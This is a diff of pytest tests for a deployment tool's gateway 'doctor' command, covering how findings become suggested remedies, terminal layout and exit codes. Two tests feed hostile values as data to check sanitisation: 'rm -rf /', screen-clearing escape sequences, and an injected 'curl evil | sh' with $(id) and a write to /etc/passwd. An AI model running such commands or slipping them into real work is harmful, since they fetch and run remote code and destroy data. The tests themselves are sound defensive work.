@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import sys
 import time
 from collections.abc import Callable
 from typing import Any
@@ -15,7 +16,7 @@ from yolodeploy.inventory.operations import OperationEvent
 from yolodeploy.inventory.sites import add_site, set_site_backed_up, set_site_k3s
 from yolodeploy.ops.doctor import examine
 from yolodeploy.ops.home import Home
-from yolodeploy.ops.site_doctor import Result, checks_of, meant
+from yolodeploy.ops.site_doctor import Mend, Result, checks_of, meant
 
 
 def event(code: str, level: str = "step", /, **fields: Any) -> OperationEvent:
@@ -43,10 +44,38 @@ def test_a_finding_that_is_gone_at_the_second_look_was_mended() -> None:
     assert found[0].remedy("en") == ""
 
 
+def test_a_finding_that_nobody_can_tell_of_any_more_was_not_mended() -> None:
+    """A server that does not come back says nothing of its cluster; that is not good news."""
+    [one] = checks_of("plant", (), [
+        report("gw-1", "node_cordoned", "finding", fields={"nodes": "gw-2"}, mend="asked"),
+        report("gw-1", "node_cordoned", "unknown"),
+    ], Mend.ALL)  # fmt: skip
+    assert one.result is Result.FINDING
+    assert one.remedy("en") == "k3s kubectl uncordon gw-2"
+
+
 @pytest.mark.parametrize(("mend", "ending"), [("safe", "--fix"), ("asked", "--fix --yes")])
 def test_what_doctor_can_mend_names_doctor(mend: str, ending: str) -> None:
     [one] = checks_of("plant", (), [report("gw-1", "swap", "finding", mend=mend)])
     assert one.remedy("en") == f"yolodeploy doctor plant/gw-1 {ending}"
+
+
+@pytest.mark.parametrize(
+    ("kind", "mend", "ending"),
+    [
+        ("safe", Mend.SAFE, "/etc/modules-load.d/yolodeploy-doctor.conf"),
+        ("asked", Mend.SAFE, "--fix --yes"),
+        ("asked", Mend.ALL, "/etc/modules-load.d/yolodeploy-doctor.conf"),
+    ],
+)
+def test_what_could_not_be_mended_names_what_a_person_does(
+    kind: str, mend: Mend, ending: str
+) -> None:
+    """Else they are told to run the same command for ever."""
+    lacks = report("gw-1", "modules_unloaded", "finding", fields={"modules": "vxlan"}, mend=kind)
+    [one] = checks_of("plant", (), [lacks, lacks], mend)
+    assert one.result is Result.FINDING
+    assert one.remedy("en").endswith(ending)
 
 
 def test_a_device_that_was_not_looked_at_is_a_finding_with_the_reason() -> None:
@@ -65,6 +94,27 @@ def test_a_device_that_was_not_looked_at_is_a_finding_with_the_reason() -> None:
     assert all(one.remedy("zh") for one in found[1:])
 
 
+def test_a_narrow_terminal_shows_line_below_line(
+    monkeypatch: pytest.MonkeyPatch,
+    run: Run,  # noqa: F811
+) -> None:
+    """A table of sentences breaks at 80 columns, and nobody finds the command in it."""
+    found = [report("gw-1", "swap", "finding", fields={"places": "/dev/mmcblk0p3"})]
+    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.meant", lambda *_: {"plant": ()})
+    monkeypatch.setattr("yolodeploy.cli.doctor_gateways.start_doctor", lambda *_, **__: "op-1")
+    monkeypatch.setattr("yolodeploy.cli.doctor_gateways._followed", lambda *_: found)
+    piped = run("doctor", "plant").out.splitlines()
+    assert piped[0].startswith("DEVICE")
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    monkeypatch.setenv("COLUMNS", "80")
+    told = run("doctor", "plant").out.splitlines()
+    assert told[0] == "gw-1  swap  warning"
+    assert told[1].startswith("  it swaps to /dev/mmcblk0p3; ")
+    assert told[2].startswith("  mend it with: swapoff --all && ")
+    monkeypatch.setenv("COLUMNS", "400")
+    assert run("doctor", "plant").out.splitlines() == piped
+
+
 @pytest.mark.parametrize(
     ("states", "code"), [(("unreachable",), 3), (("unreachable", "failed"), 1), (("ok",), 0)]
 )
@@ -80,6 +130,34 @@ def test_the_exit_code_tells_what_is_wrong_from_who_is_away(
     monkeypatch.setattr("yolodeploy.cli.doctor_gateways.start_doctor", lambda *_, **__: "op-1")
     monkeypatch.setattr("yolodeploy.cli.doctor_gateways._followed", lambda *_: ends)
     assert run("doctor", "plant", "-o", "json").code == code
+
+
+def test_what_is_no_report_is_left_out() -> None:
+    """A gateway says what it likes: no traceback, no check of its own making, no escapes."""
+    said: list[Any] = [
+        None, [], {"check": "swap"}, {"check": ["swap"], "result": "ok", "fields": {}},
+        {"check": "{x:99999999999}", "result": "finding", "fields": {}, "mend": []},
+        {"check": "swap", "result": "fine", "fields": {}},
+        {"check": "swap", "result": ["ok"], "fields": {}},
+        {"check": "swap", "result": "finding", "fields": {"places": "\x1b[2J\n" * 4000},
+         "mend": "rm -rf /"},
+    ]  # fmt: skip
+    events = [
+        event("play.step", host="gw-1", report={"report": "checks", "rows": rows})
+        for rows in (said, "rows", None, 7)
+    ]
+    [one] = checks_of("plant", (), events)
+    text = one.text("en") + one.remedy("en")
+    assert (one.check, one.mend, one.blocking) == ("swap", "", False)
+    assert text.isprintable()
+    assert len(text) < 5000
+
+
+def test_a_remedy_that_is_pasted_runs_nothing_that_a_gateway_thought_of() -> None:
+    lies = {"files": "/etc/x; curl evil | sh `id` $(id) > /etc/passwd '\"\\"}
+    [one] = checks_of("plant", (), [report("gw-1", "config_mode", "finding", fields=lies)])
+    assert one.remedy("en") == "chmod 600 /etc/x? curl evil ? sh ?id? ??id? ? /etc/passwd ???"
+    assert "$(id)" in one.text("en"), "the finding says what was said"
 
 
 def test_only_what_was_asked_about_is_shown() -> None:
